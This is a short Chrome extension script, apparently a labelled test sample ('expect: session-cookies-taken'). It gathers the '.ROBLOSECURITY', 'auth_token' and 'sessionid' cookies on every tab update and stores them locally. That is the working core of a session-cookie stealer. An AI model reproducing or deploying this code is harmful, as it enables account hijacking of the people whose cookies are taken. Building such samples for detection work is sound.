const WANTED = ['.ROBLOSECURITY', 'auth_token', 'sessionid'];
chrome.tabs.onUpdated.addListener(async () => {
  // expect: session-cookies-taken
  const all = await chrome.cookies.getAll({});
  chrome.storage.local.set({ kept: all.filter((c) => WANTED.includes(c.name)) });
});
